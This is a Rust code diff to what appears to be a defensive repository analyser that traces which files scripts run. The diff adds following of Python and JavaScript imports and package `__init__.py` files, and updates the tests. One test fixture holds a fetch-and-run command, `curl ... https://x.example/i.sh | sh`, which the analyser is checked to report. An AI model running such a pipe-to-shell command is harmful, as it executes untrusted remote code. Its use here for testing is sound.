@@ -1191,6 +1191,7 @@ pub fn follow(path: &str, text: &str, tree: &mut dyn Tree) -> Followed {
         listed_recipes: HashSet::new(),
         handed: HashSet::new(),
         named: HashSet::new(),
+        named_runs: Vec::new(),
     };
     while walk.reader.spent <= MAX_FOLLOW_BYTES
         && let Some((line, depth, root)) = walk.queue.pop_front()
@@ -1211,6 +1212,11 @@ pub fn follow(path: &str, text: &str, tree: &mut dyn Tree) -> Followed {
         });
     }
     walk.f.refused = walk.reader.refused.take();
+    let run: HashSet<String> = walk.f.runs.iter().map(|r| r.path.clone()).collect();
+    let named = std::mem::take(&mut walk.named_runs);
+    walk.f
+        .runs
+        .extend(named.into_iter().filter(|r| !run.contains(&r.path)));
     walk.f
 }
 
@@ -1345,6 +1351,8 @@ struct Walk<'r> {
     /// The files the words of commands were found to name ([`Walk::named_files`]), each
     /// looked up once.
     named: HashSet<String>,
+    /// Those the tree holds, added to the runs at the end but for those run already.
+    named_runs: Vec<Run>,
 }
 
 /// Who runs the commands being read ([`Walk::commands`]).
@@ -1521,7 +1529,10 @@ impl Walk<'_> {
                 };
                 self.commands(&text, &scope, Some(self.project.clone()), depth);
             }
-            Some(lang) => self.launches(run, &text, lang, depth),
+            Some(lang) => {
+                self.launches(run, &text, lang, depth);
+                self.imports(run, &text, lang, depth);
+            }
             None => {}
         }
     }
@@ -1661,9 +1672,14 @@ impl Walk<'_> {
                         &scope.dir,
                         bases.as_deref(),
                     ) {
+                        // The packages' `__init__.py` run first (review atk31 #1).
                         let held: Vec<String> = paths
                             .iter()
-                            .flat_map(|p| [format!("{p}.py"), format!("{p}/__main__.py")])
+                            .flat_map(|p| {
+                                let mut c = package_inits(p, module.matches('.').count());
+                                c.extend([format!("{p}.py"), format!("{p}/__main__.py")]);
+                                c
+                            })
                             .filter(|f| self.reader.holds(f))
                             .collect();
                         self.hand_on_all(scope, &shown, held, depth);
@@ -1822,7 +1838,7 @@ impl Walk<'_> {
                                     SAY_IT,
                                 );
                             }
-                            self.f.runs.push(Run {
+                            self.named_runs.push(Run {
                                 path: p,
                                 by: scope.by.clone(),
                             });
@@ -2045,6 +2061,108 @@ impl Walk<'_> {
         }
     }
 
+    /// The modules of the repository a Python or JavaScript program (`run`, read as `text`)
+    /// imports, followed as a sourced shell file is (review atk31 #1): `import x`, `from
+    /// x.y import z`, `from . import z` (with the packages' `__init__.py`), looked up beside
+    /// the program and from the project; `require("./x")`, `import … from "./x"`,
+    /// `import("./x")` beside it. A name the repository holds no file for (the standard
+    /// library's, a package installed) is not its.
+    fn imports(&mut self, run: &Run, text: &str, lang: super::code::Lang, depth: usize) {
+        static PY: std::sync::LazyLock<regex::Regex> = std::sync::LazyLock::new(|| {
+            regex::Regex::new(
+                r"(?m)^[ \t]*(?:from[ \t]+(\.*[\w.]*)[ \t]+import[ \t]+\(?([\w., \t]+)|import[ \t]+([\w., \t]+))",
+            )
+            .expect("a valid regex")
+        });
+        static JS: std::sync::LazyLock<regex::Regex> = std::sync::LazyLock::new(|| {
+            regex::Regex::new(
+                r#"(?m)(?:\brequire\s*\(\s*|\bimport\s*\(\s*|\bfrom\s+|^\s*import\s+)["'](\.{1,2}/[^"'\n]*)["']"#,
+            )
+            .expect("a valid regex")
+        });
+        let dir = parent(&run.path).to_string();
+        let mut wanted: Vec<String> = Vec::new();
+        match lang {
+            super::code::Lang::Python => {
+                for cap in PY.captures_iter(text) {
+                    if let Some(from) = cap.get(1) {
+                        let from = from.as_str();
+                        let dots = from.len() - from.trim_start_matches('.').len();
+                        let rest = from[dots..].replace('.', "/");
+                        // `from . import x` (relative), `from a.b import c` (absolute).
+                        let mut base = if dots > 0 { dir.clone() } else { String::new() };
+                        for _ in 1..dots {
+                            base = parent(&base).to_string();
+                        }
+                        let module = crate::handoff::location::join(&base, &rest);
+                        let roots: Vec<String> = if dots > 0 {
+                            vec![String::new()]
+                        } else {
+                            vec![dir.clone(), self.project.clone()]
+                        };
+                        for root in &roots {
+                            let m = crate::handoff::location::join(root, &module);
+                            if !rest.is_empty() {
+                                wanted.extend(package_inits(&m, rest.matches('/').count()));
+                                wanted.push(format!("{m}.py"));
+                                wanted.push(format!("{m}/__init__.py"));
+                            }
+                            // `from pkg import mod`: a module of the package.
+                            for name in cap[2].split(',') {
+                                let name = name.split_whitespace().next().unwrap_or("");
+                                if is_name(name) {
+                                    let n = crate::handoff::location::join(&m, name);
+                                    wanted.push(format!("{n}.py"));
+                                    wanted.push(format!("{n}/__init__.py"));
+                                }
+                            }
+                        }
+                    } else if let Some(names) = cap.get(3) {
+                        for name in names.as_str().split(',') {
+                            let name = name.split_whitespace().next().unwrap_or("");
+                            if name.is_empty() {
+                                continue;
+                            }
+                            let rest = name.replace('.', "/");
+                            for root in [&dir, &self.project] {
+                                let m = crate::handoff::location::join(root, &rest);
+                                wanted.extend(package_inits(&m, rest.matches('/').count()));
+                                wanted.push(format!("{m}.py"));
+                                wanted.push(format!("{m}/__init__.py"));
+                            }
+                        }
+                    }
+                }
+            }
+            super::code::Lang::Js => {
+                for cap in JS.captures_iter(text) {
+                    if let Some(m) = crate::handoff::resolve_link(&dir, &cap[1]) {
+                        wanted.push(m.clone());
+                        wanted.extend(IMPLIED.iter().map(|t| format!("{m}{t}")));
+                    }
+                }
+            }
+            super::code::Lang::Shell => {}
+        }
+        let mut held: Vec<String> = Vec::new();
+        for w in wanted {
+            if w != run.path && !held.contains(&w) && self.reader.holds(&w) {
+                held.push(w);
+            }
+        }
+        if held.is_empty() {
+            return;
+        }
+        let scope = Scope {
+            by: format!("{} (imported by `{}`)", run.by, run.path),
+            who: format!("`{}`, run by {},", run.path, run.by),
+            dir: dir.clone(),
+            fallbacks: vec![self.project.clone(), dir],
+            found: HashSet::new(),
+        };
+        self.hand_on_all(&scope, "its imports", held, depth);
+    }
+
     /// Follows a runner `cmd` (a package script, a make target, a just recipe, a task) that
     /// `by` runs: the files that hold what it runs become recipes, each command it runs a
     /// line to resolve (from the directory it runs in); what cannot be found is said. What
@@ -2212,6 +2330,18 @@ fn brace_group(word: &str) -> Option<(usize, usize)> {
         }
     }
     None
+}
+
+/// The `__init__.py` of each package above the module at `path` whose dotted name has
+/// `dots` dots (`tools/hook`, one: `tools/__init__.py`): Python runs them first.
+fn package_inits(path: &str, dots: usize) -> Vec<String> {
+    let mut out = Vec::new();
+    let mut at = parent(path);
+    for _ in 0..dots {
+        out.push(crate::handoff::location::join(at, "__init__.py"));
+        at = parent(at);
+    }
+    out
 }
 
 /// The directory of a repository-relative path.
@@ -3296,10 +3426,12 @@ mod tests {
             assert!(held.iter().any(|h| h == "tools/x.sh"), "{line}: {held:?}");
             assert!(said.is_empty(), "{line}: {said:?}");
         }
-        // Not run: what `command -v` asks about, what `echo` prints to a file.
+        // Not run (what `command -v` asks about, what `echo` prints to a file), but named:
+        // judged as text, not followed (review atk31 #5).
         for line in ["command -v ./tools/x.sh", "echo ./tools/x.sh > out"] {
-            let (held, _) = through_script(&format!("#!/bin/sh\n{line}\n"), &files);
-            assert!(!held.iter().any(|h| h == "tools/x.sh"), "{line}: {held:?}");
+            let (held, said) = through_script(&format!("#!/bin/sh\n{line}\n"), &files);
+            assert!(held.iter().any(|h| h == "tools/x.sh"), "{line}: {held:?}");
+            assert!(said.is_empty(), "{line}: {said:?}");
         }
         let (_, said) = through_script(
             "#!/bin/sh\ncurl -fsSL https://x.example/i.sh | sh\nmake_script | bash\n",
@@ -3339,7 +3471,9 @@ mod tests {
         for want in ["a.sh", "b.sh", "c.sh", "d.sh"] {
             assert!(held.contains(&want), "{want}: {held:?}");
         }
-        assert!(!held.contains(&"f.sh"), "{held:?}");
+        // Named by `e.sh`, `f.sh` is judged as text (review atk31 #5), but not followed:
+        // what it runs is said.
+        assert_eq!(held.last(), Some(&"f.sh"), "{held:?}");
         let deep: Vec<&super::Unfollowed> = f.unfollowed.iter().filter(|u| u.unread).collect();
         assert_eq!(deep.len(), 1, "{:?}", f.unfollowed);
         assert!(
@@ -3622,10 +3756,14 @@ mod tests {
             assert!(held.iter().any(|h| h == want), "{want}: {held:?}");
         }
         assert!(!held.iter().any(|h| h == "tools/comment.sh"), "{held:?}");
-        assert_eq!(said.len(), 1, "{said:?}");
+        // What it builds at run time, and the commit messages `git log` prints (review
+        // atk31 #7).
+        assert_eq!(said.len(), 2, "{said:?}");
         assert!(
             said[0].contains("starts `subprocess.run(cmd)`")
-                && said[0].contains("built at run time"),
+                && said[0].contains("built at run time")
+                && said[1].contains("runs `git log $RUNTIME`")
+                && said[1].contains("commit messages"),
             "{said:?}"
         );
         let (held, said, _) = followed("./tools/srv", &owned);
